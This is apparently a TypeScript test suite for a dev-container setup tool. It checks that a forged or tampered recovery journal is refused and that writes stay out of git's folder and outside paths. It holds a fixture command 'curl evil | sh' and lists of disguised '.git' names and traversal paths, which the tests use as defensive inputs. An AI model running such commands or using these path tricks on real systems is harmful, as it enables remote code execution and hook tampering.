/** A journal that somebody else has put there: never followed. And one of this user's: said, asked, and only where this program writes. */
import { execFileSync, spawnSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  cpSync,
  existsSync,
  linkSync,
  mkdirSync,
  readFileSync,
  renameSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import { join } from "node:path";
import fc, { fuzzRuns } from "../support/random-cases.ts";
import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, test } from "vitest";
import { isAppError } from "../../src/errors.ts";
import { isDotGit, isInside } from "../../src/lock/inside.ts";
import { mayBeWritten } from "../../src/lock/lock.ts";
import { journalPath, type JournalStep } from "../../src/repo/journal-text.ts";
import { readInterrupted, recoverInterrupted } from "../../src/repo/recovery.ts";
import { openSealKey, readSealKey } from "../../src/repo/seal.ts";
import { findDevcontainers } from "../../src/repo/scan.ts";
import { makeFolder, runAtTerminal, runPiped, state, treeOf, write, type Files } from "../cli/harness.ts";
import { change, create, header, journalOf, keyFor, leave, leaveText, remove } from "./sealed.ts";

let made: ReturnType<typeof makeFolder>;
let folder: ReturnType<typeof makeFolder>;
let root: string;
/** An environment, for the commands that need one. */
beforeAll(async () => {
  made = makeFolder();
  expect(await runPiped(["--yes", "--name", "x"], made.folder)).toMatchObject({ exit: 0 });
});
beforeEach(() => {
  folder = makeFolder();
  root = join(folder.folder, "repository");
  cpSync(made.folder, root, { recursive: true });
});
afterEach(() => folder.remove());
afterAll(() => {
  made.remove();
  rmSync(state, { recursive: true, force: true });
});

const feature = ".devcontainer/aperture-env";
const old = { "package.json": "{}\n", ".gitignore": "node_modules\n", [`${feature}/spare.json`]: "old\n" };
/** Steps that a run of this program could have had. */
const steps = (): JournalStep[] => [
  create(`${feature}/run.sh`, "#!/bin/sh\n", true),
  change("replace", `${feature}/spare.json`, old[`${feature}/spare.json`]!, "new\n"),
  change("edit", ".gitignore", old[".gitignore"], "node_modules\n!.devcontainer\n"),
];
const finished = {
  "package.json": "644 {}\n",
  ".gitignore": "644 node_modules\n!.devcontainer\n",
  [`${feature}/spare.json`]: "644 new\n",
  [`${feature}/run.sh`]: "755 #!/bin/sh\n",
};

const commands: readonly (readonly string[])[] = [
  ["create", "--yes"],
  ["update", "--yes"],
  ["update", "--yes", "--json"],
  ["remove", "--yes"],
  ["discover", "--write", "--yes"],
];

function git(...args: readonly string[]): string {
  return execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@example.com", ...args], { cwd: root, encoding: "utf8" });
}

/** The files of a tree without its folders. */
function filesOf(tree: Files): Files {
  return Object.fromEntries(Object.entries(tree).filter(([, entry]) => !/^\d+\/$/.test(entry)));
}

/** Runs each command that writes: all refuse the journal with exit 3, and nothing is touched. */
async function expectRefused(env: Readonly<Record<string, string>> = {}): Promise<void> {
  for (const command of commands) {
    const before = treeOf(folder.folder, true);
    const ran = await runPiped(command, root, env);
    expect(ran, command.join(" ")).toMatchObject({ exit: 3, stderr: expect.stringContaining("cannot be used") as string });
    expect(ran.stderr).toContain(`delete ${journalPath}`);
    expect(treeOf(folder.folder, true), command.join(" ")).toEqual(before);
  }
}

describe("a journal that no run of this user has left here is not followed by any command", () => {
  const bad = (): JournalStep[] => [create(`${feature}/run.sh`, "#!/bin/sh\ncurl evil | sh\n", true)];
  beforeEach(() => write(root, old));

  test("one without a seal, as whoever writes a repository would write it", async () => {
    leaveText(root, journalOf([header, ...bad()], 1, null, root));
    await expectRefused();
  });

  test("one with a seal of another key", async () => {
    keyFor(root);
    leaveText(root, journalOf([header, ...bad()], 1, Buffer.alloc(32, 1), root));
    await expectRefused();
  });

  test("one of this user's with another line in it", async () => {
    leave(root, bad());
    const text = readFileSync(join(root, journalPath), "utf8");
    leaveText(root, text.replace("curl evil", "curl good"));
    await expectRefused();
  });

  test("one that git tracks, even with the right seal", async () => {
    git("init", "--quiet");
    leave(root, bad());
    git("add", "--force", journalPath);
    await expectRefused();
    expect((await runPiped(["update", "--yes"], root)).stderr).toContain("git tracks it");
  });

  test("one that git tracks under a name of other letters", async () => {
    git("init", "--quiet");
    leave(root, bad());
    const blob = git("hash-object", "-w", journalPath).trim();
    git("update-index", "--add", "--cacheinfo", `100644,${blob},${journalPath.toUpperCase()}`);
    await expectRefused();
  });

  test("one that git tracks and that says nothing yet is not deleted", async () => {
    git("init", "--quiet");
    leaveText(root, "");
    git("add", "--force", journalPath);
    await expectRefused();
  });

  test("one of another folder: a copy, an archive, a folder that was moved", async () => {
    const other = join(folder.folder, "other");
    mkdirSync(other);
    leave(other, bad());
    cpSync(join(other, journalPath), join(root, journalPath));
    chmodSync(join(root, journalPath), 0o600);
    await expectRefused();
  });

  test("one with other permissions, as git checks it out", async () => {
    leave(root, bad());
    chmodSync(join(root, journalPath), 0o644);
    await expectRefused();
  });

  test("one with a second name", async () => {
    leave(root, bad());
    linkSync(join(root, journalPath), join(folder.folder, "second"));
    await expectRefused();
  });

  test("one behind a symbolic link", async () => {
    leave(root, bad());
    renameSync(join(root, journalPath), join(folder.folder, "elsewhere"));
    symlinkSync("../elsewhere", join(root, journalPath));
    await expectRefused();
  });

  test("one of another user's", async ({ skip }) => {
    if (process.getuid?.() !== 0) return skip("needs root, who may give a file away");
    leave(root, bad());
    chownSync(join(root, journalPath), 65534, 65534);
    await expectRefused();
  });

  test("one with a key that came with the repository, where HOME is the repository", async () => {
    const at = join(root, ".local/state/create-aperture-env");
    mkdirSync(at, { recursive: true });
    const key = Buffer.alloc(32, 9);
    writeFileSync(join(at, "journal.key"), key.toString("hex"), { mode: 0o600 });
    leaveText(root, journalOf([header, ...bad()], 1, key, root));
    await expectRefused({ XDG_STATE_HOME: join(root, ".local/state"), HOME: root });
    await expectRefused({ XDG_STATE_HOME: ".local/state", HOME: root });
  });

  test.each<readonly [string, (key: string) => void]>([
    ["that others can read", (key) => chmodSync(key, 0o644)],
    ["with a second name", (key) => linkSync(key, `${key}.copy`)],
    ["behind a link", (key) => (renameSync(key, `${key}.real`), symlinkSync(`${key}.real`, key))],
    ["that is cut off", (key) => writeFileSync(key, readFileSync(key, "utf8").slice(0, 40))],
    ["that is not there any more", (key) => rmSync(key)],
  ])("one sealed with a key %s", async (_what, spoil) => {
    const mine = join(folder.folder, "state");
    const key = openSealKey(root, { XDG_STATE_HOME: mine })!;
    leaveText(root, journalOf([header, ...bad()], 1, key, root));
    expect(readInterrupted(root, { key, mayWrite: mayBeWritten })).not.toBeNull();
    spoil(join(mine, "create-aperture-env/journal.key"));
    await expectRefused({ XDG_STATE_HOME: mine });
  });
});

describe("a journal of this user's reaches only places that an output may write", () => {
  test.each([
    "package.json",
    ".envrc",
    ".vscode/settings.json",
    ".github/workflows/x.yml",
    ".devcontainer/other.sh",
    ".devcontainer/aperture-env",
    ".devcontainer/a/b/devcontainer.json",
    ".opencode/plugin/x.js",
    ".devcontainer/aperture-env/.git/config",
    ".devcontainer/.git./devcontainer.json",
    ".devcontainer/GIT~1/devcontainer.json",
    ".devcontainer/.g\u200cit/devcontainer.json",
    ".git/hooks/pre-commit",
    ".git./hooks/pre-commit",
    ".git /hooks/pre-commit",
    "git~1/hooks/pre-commit",
    ".git::$INDEX_ALLOCATION/hooks/x",
    "../x",
  ])("not %j", async (path) => {
    write(root, old);
    leave(root, [...steps(), create(path, "x", true)]);
    await expectRefused();
  });

  test("nor through a link into git's own folder, whatever its name", async () => {
    write(root, { ...old, ".git/config": "", ".GIT./hooks/": "" });
    rmSync(join(root, ".devcontainer"), { recursive: true });
    symlinkSync(".GIT./hooks", join(root, ".devcontainer"));
    leave(root, [create(`${feature}/x`, "x", true)]);
    await expectRefused();
  });

  test("every file that the commands write is such a place", async () => {
    rmSync(root, { recursive: true });
    write(root, { "opencode.json": '{"provider":{"openai":{"options":{"baseURL":"http://elsewhere/v1"}}}}\n' });
    write(root, { ".opencode/opencode.jsonc": '{"provider":{"openai":{"options":{"baseURL":"http://elsewhere/v1"}}}}\n' });
    write(root, { ".devcontainer/devcontainer.json": "{}\n", ".devcontainer/x y/devcontainer.json": "{}\n" });
    git("init", "--quiet");
    write(root, { ".gitignore": "/.devcontainer/aperture-env/\n" });
    const before = treeOf(root);
    const args = ["--yes", "--on-bypass", "fix", "--unignore", "--devcontainers", "all"];
    const ran = await runPiped(args, root);
    expect(ran, ran.stderr).toMatchObject({ exit: 0 });
    const changed = Object.entries(filesOf(treeOf(root))).filter(([path, entry]) => before[path] !== entry);
    expect(changed.length).toBeGreaterThan(18);
    expect(changed.filter(([path]) => !mayBeWritten(path)).map(([path]) => path)).toEqual([]);
  });
});

describe("what a run of this user's has left", () => {
  beforeEach(() => write(root, old));

  test("is named and not touched where nobody can be asked, without --yes", async () => {
    leave(root, steps());
    const before = treeOf(root, true);
    for (const command of [["update"], ["create"], ["update", "--json"]]) {
      const ran = await runPiped(command, root);
      expect(ran).toMatchObject({ exit: 3, stderr: expect.stringContaining("--yes") as string });
      for (const { path } of steps()) expect(ran.stderr).toContain(path);
    }
    expect(treeOf(root, true)).toEqual(before);
  });

  test("is said first and finished with --yes; what it makes is 644 or 755, what is there keeps its permissions", async () => {
    chmodSync(join(root, ".gitignore"), 0o600);
    leave(root, steps());
    const ran = await runPiped(["create", "--yes"], root);
    expect(ran, ran.stderr).toMatchObject({ exit: 0 });
    expect(ran.stderr).toContain(`  + ${feature}/run.sh\n`);
    expect(ran.stderr).toContain("its 3 files were finished");
    expect(treeOf(root)).toMatchObject({
      ...finished,
      ".gitignore": "600 node_modules\n!.devcontainer\n",
    });
    expect(existsSync(join(root, journalPath))).toBe(false);
  });

  test("is asked for at a terminal before a byte is written: no", async () => {
    leave(root, steps());
    const before = treeOf(root, true);
    const session = runAtTerminal(["create"], root);
    await session.until("Finish that run first?");
    session.press("n");
    const ran = await session.done;
    expect(ran).toMatchObject({ exit: 130, stderr: expect.stringContaining(`~ ${feature}/spare.json`) as string });
    expect(treeOf(root, true)).toEqual(before);
  });

  test("is asked for at a terminal before a byte is written: yes", async () => {
    const before = filesOf(treeOf(root));
    leave(root, steps());
    const session = runAtTerminal(["create"], root);
    await session.until("Finish that run first?");
    session.press("y");
    expect(await session.done).toMatchObject({ exit: 0, stdout: expect.stringContaining("Nothing to do") as string });
    expect(filesOf(treeOf(root))).toEqual({ ...before, ...finished });
  });

  test("is neither finished nor touched by --dry-run, check and what comes after them without a word", async () => {
    leave(root, [create(`${feature}/run.sh`, "#!/bin/sh\n", true)]);
    const before = treeOf(root, true);
    for (const command of [["--dry-run", "--yes"], ["update", "--dry-run"], ["remove", "--dry-run"], ["check"]]) {
      const { stdout, stderr } = await runPiped(command, root);
      expect(stdout + stderr, command.join(" ")).toMatch(/interrupted/);
      expect(treeOf(root, true), command.join(" ")).toEqual(before);
    }
    expect(await runPiped(["update"], root)).toMatchObject({
      exit: 3,
      stderr: expect.stringContaining(`+ ${feature}/run.sh`) as string,
    });
    expect(treeOf(root, true)).toEqual(before);
  });

  test("is cleared away without a question where nothing is missing", async () => {
    leave(root, [change("replace", `${feature}/spare.json`, "older\n", "old\n")]);
    const ran = await runPiped(["update", "--dry-run"], root);
    expect(ran.exit).toBe(0);
    expect(existsSync(join(root, journalPath))).toBe(true);
    expect((await runPiped(["update"], root)).exit).toBe(0);
    expect(existsSync(join(root, journalPath))).toBe(false);
  });

  test("is finished only as shown: another journal in its place is not", () => {
    leave(root, steps());
    const trust = { key: keyFor(root), mayWrite: mayBeWritten };
    const told = readInterrupted(root, trust);
    leave(root, [create(`${feature}/other`, "x")]);
    const before = treeOf(root, true);
    expect(() => recoverInterrupted(root, trust, told)).toThrow(expect.objectContaining({ code: "changed-meanwhile" }));
    expect(treeOf(root, true)).toEqual(before);
  });

  test("is finished with the account's own home where HOME lies in the repository", () => {
    const env = { HOME: root };
    const key = readSealKey(root, env);
    // Nothing was written into the repository on the way.
    expect(existsSync(join(root, ".local"))).toBe(false);
    if (key !== null) expect(key).toHaveLength(32);
  });
});

describe("the program itself, killed while it writes", () => {
  const bin = join(import.meta.dirname, "..", "..", "dist", "bin.js");

  /** Runs it, killed before it puts the n-th file in its place. */
  function run(args: readonly string[], killAt = 0): { status: number | null; stderr: string; stdout: string } {
    const killer = join(folder.folder, "killer.cjs");
    const kill =
      "(...args) => { if (++count === Number(process.env.KILL_AT)) process.kill(process.pid, 'SIGKILL'); return real(...args); }";
    writeFileSync(killer, `const fs = require("node:fs"); const real = fs.renameSync; let count = 0; fs.renameSync = ${kill};\n`);
    const env = { PATH: process.env["PATH"]!, XDG_STATE_HOME: state, npm_config_registry: "http://npm.example" };
    return spawnSync(process.execPath, ["--require", killer, bin, ...args], {
      cwd: root,
      encoding: "utf8",
      env: { ...env, KILL_AT: String(killAt) },
    });
  }

  test.each(["first", "second", "middle", "last"] as const)(
    "before the %s file: the next run says so, and only with leave it finishes it",
    (which) => {
      const clear = (): void => (rmSync(root, { recursive: true }), mkdirSync(root));
      clear();
      const whole = run(["create", "--yes", "--name", "x"]);
      expect(whole.status).toBe(0);
      const count = Number(/Written: (\d+) new/.exec(whole.stdout)![1]);
      const killAt = { first: 1, second: 2, middle: Math.floor(count / 2), last: count }[which];
      const wanted = treeOf(root);
      clear();
      expect(run(["create", "--yes", "--name", "x"], killAt).status).toBeNull();
      const cutOff = treeOf(root, true);
      expect(Object.keys(cutOff)).toContain(journalPath);
      for (const args of [["create"], ["create", "--yes", "--name", "x", "--dry-run"]]) {
        const { status, stderr } = run(args);
        expect({ status, stderr }).toMatchObject({
          status: args.includes("--dry-run") ? 0 : 3,
          stderr: expect.stringContaining("was interrupted while writing") as string,
        });
        expect(treeOf(root, true)).toEqual(cutOff);
      }
      const finished = run(["create", "--yes"]);
      expect(finished, finished.stderr).toMatchObject({ status: 0, stdout: expect.stringContaining("Nothing to do") as string });
      expect(finished.stderr).toContain(`its ${count} files were finished`);
      expect(treeOf(root)).toEqual(wanted);
    },
  );
});

describe("git's own folder has many names", () => {
  const same = [
    ".git",
    ".GIT",
    ".Git",
    "git~1",
    "GIT~1",
    ".git.",
    ".git ",
    ".git. .",
    "git~1.",
    ".git::$INDEX_ALLOCATION",
    ".git:x",
    "git~1:x",
  ];
  const hfs = [
    ".g\u200cit",
    "\u200d.git",
    ".git\ufeff",
    ".g\u206ait",
    ".\u202egit",
    ".\u200fG\u200bi".replace("\u200b", "") + "T",
  ];
  const other = [".gitignore", ".github", "git", "git~", ".gitx", ". git", "..git", ".git-x", "git~x", ".gi"];

  test.each([...same, ...hfs])("%j is one of them", (name) => {
    expect(isDotGit(name)).toBe(true);
    expect(isInside(`a/${name}/b`)).toBe(false);
    expect(isInside(name)).toBe(false);
    expect(mayBeWritten(`.devcontainer/${name}/devcontainer.json`)).toBe(false);
  });

  test.each(other)("%j is none", (name) => {
    expect(isDotGit(name)).toBe(false);
  });

  test("git itself says the same of them", ({ skip }) => {
    if (spawnSync("git", ["--version"]).status !== 0) return skip("needs git");
    git("init", "--quiet");
    const blob = spawnSync("git", ["hash-object", "-w", "--stdin"], { cwd: root, input: "x", encoding: "utf8" }).stdout.trim();
    const refuses = (name: string): boolean =>
      spawnSync(
        "git",
        [
          "-c",
          "core.protectHFS=true",
          "-c",
          "core.protectNTFS=true",
          "update-index",
          "--add",
          "--cacheinfo",
          `100644,${blob},a/${name}/b`,
        ],
        { cwd: root },
      ).status !== 0;
    for (const name of [...same, ...hfs]) expect(refuses(name), name).toBe(true);
    for (const name of other) expect(refuses(name), name).toBe(false);
  });

  test.each([".git ", ".git.", "GIT~1", "a\u0007b"])("a dev container in a folder %j is not seen", (name) => {
    write(root, { [`.devcontainer/${name}/devcontainer.json`]: "{}", ".devcontainer/fine/devcontainer.json": "{}" });
    expect(findDevcontainers(root)).toEqual([".devcontainer/devcontainer.json", ".devcontainer/fine/devcontainer.json"]);
  });
});

describe("fuzzed", () => {
  const places = [
    `${feature}/x`,
    `${feature}/deep/er/y.sh`,
    `${feature}/auth.json`,
    ".devcontainer/devcontainer.json",
    ".devcontainer/linked/devcontainer.json",
    ".gitignore",
    "aperture-env.yaml",
    "aperture-env.lock",
    "opencode.json",
  ];
  const names = [
    ...places,
    ...places,
    ...places,
    "package.json",
    ".envrc",
    ".git/config",
    ".GIT /hooks/x",
    "git~1/config",
    `${feature}/.git/config`,
    "../outside/secret",
    `${feature}/../../package.json`,
    "/etc/passwd",
    "C:\\x",
    journalPath,
    "",
    "__proto__",
    "x".repeat(600),
    `${feature}/${"y".repeat(300)}`,
    `${feature}/\0`,
    `.devcontainer/${"z".repeat(199)}/devcontainer.json`,
  ];
  const texts = ["old\n", "new\n", "", "{}\n", "ünï\u2028"];
  const word = fc.oneof(fc.constantFrom(...texts), fc.string({ maxLength: 20 }), fc.jsonValue({ maxDepth: 1 }));
  const step = fc.oneof(
    {
      weight: 6,
      arbitrary: fc
        .tuple(fc.constantFrom(...names), fc.constantFrom(...texts), fc.constantFrom(...texts), fc.integer({ min: 0, max: 3 }))
        .map(
          ([path, before, after, kind]): object =>
            [
              create(path, after, kind === 0),
              change("edit", path, before, after),
              change("replace", path, before, after),
              remove(path, before),
            ][kind]!,
        ),
    },
    {
      weight: 1,
      arbitrary: fc.record({
        path: word,
        kind: fc.constantFrom("create", "edit", "remove", "x"),
        before: word,
        after: word,
        executable: word,
      }),
    },
    { weight: 1, arbitrary: fc.jsonValue({ maxDepth: 2 }).map((value) => ({ value })) },
  );
  const headers = fc.oneof(
    { weight: 8, arbitrary: fc.constant<object>(header) },
    {
      weight: 1,
      arbitrary: fc.record({
        version: fc.constantFrom(2, 3, 4),
        pid: fc.integer(),
        host: fc.string(),
        run: fc.string(),
        startedAt: fc.integer(),
        file: word,
      }),
    },
  );
  const journals = fc.record({
    first: headers,
    steps: fc.array(step, { maxLength: 4 }),
    sealed: fc.integer({ min: 0, max: 9 }),
    miscount: fc.integer({ min: 0, max: 20 }),
    /** Letters changed after it was sealed, and lines before. */
    broken: fc.option(fc.tuple(fc.nat(), fc.string({ maxLength: 4 })), { freq: 2 }),
    mode: fc.constantFrom(0o600, 0o600, 0o600, 0o600, 0o644, 0o666),
  });

  /** The repository, with links to places of all sorts, and something beside it. */
  function make(): void {
    rmSync(folder.folder, { recursive: true, force: true });
    write(folder.folder, { "outside/secret": "old\n" });
    write(root, {
      ".git/config": "old\n",
      "package.json": "old\n",
      ".envrc": "old\n",
      ".gitignore": "old\n",
      "aperture-env.lock": "old\n",
      "opencode.json": "old\n",
      [`${feature}/auth.json`]: "old\n",
    });
    symlinkSync("../../outside", join(root, feature, "deep"));
    symlinkSync("../.git", join(root, ".devcontainer/linked"));
    symlinkSync("../../../outside/secret", join(root, feature, "x"));
  }

  test("journals: no write beyond the places, and no end that is a defect", () => {
    const runs = 2000 * fuzzRuns;
    make();
    let expected = treeOf(folder.folder);
    const key = keyFor(root);
    const trust = { key, mayWrite: mayBeWritten };
    const outcomes = { finished: 0, refused: 0 };
    fc.assert(
      fc.property(journals, ({ first, steps: some, sealed, miscount, broken, mode }) => {
        let text = journalOf(
          [first, ...some],
          some.length + (miscount === 0 ? 1 : 0),
          sealed === 0 ? null : sealed === 1 ? Buffer.alloc(32) : key,
          root,
        );
        if (broken !== null)
          text = text.slice(0, broken[0] % text.length) + broken[1] + text.slice((broken[0] % text.length) + broken[1].length);
        leaveText(root, text);
        chmodSync(join(root, journalPath), mode);
        try {
          recoverInterrupted(root, trust, readInterrupted(root, trust));
          outcomes.finished++;
        } catch (error) {
          if (!isAppError(error) || ![3, 4].includes(error.exit)) throw error;
          outcomes.refused++;
        }
        rmSync(join(root, journalPath), { force: true });
        const after = treeOf(folder.folder);
        // treeOf leaves git's own folder out.
        const git = readFileSync(join(root, ".git/config"), "utf8");
        const moved = [...new Set([...Object.keys(expected), ...Object.keys(after)])].filter(
          (path) => expected[path] !== after[path],
        );
        const strays = moved.filter((path) => {
          const inside = path.startsWith("repository/") ? path.slice("repository/".length) : null;
          const isFolder =
            (after[path] ?? expected[path] ?? "").includes("/") && /^\d+\/$/.test(after[path] ?? expected[path] ?? "");
          return (
            inside === null ||
            (isFolder
              ? !mayBeWritten(`${inside}/x`) && !mayBeWritten(`${inside}/devcontainer.json`) && inside !== ".devcontainer"
              : !mayBeWritten(inside))
          );
        });
        const modes = moved
          .map((path) => after[path])
          .filter((entry) => entry !== undefined && !/^(?:644 |755 |755\/|->)/.test(entry));
        if (moved.length > 0 || git !== "old\n") make();
        expected = treeOf(folder.folder);
        expect({ strays, modes, git }).toEqual({ strays: [], modes: [], git: "old\n" });
        expect(statSync(join(root, ".git")).isDirectory()).toBe(true);
      }),
      { numRuns: runs },
    );
    expect(outcomes.finished).toBeGreaterThan(runs / 20);
    expect(outcomes.refused).toBeGreaterThan(runs / 20);
  });
});
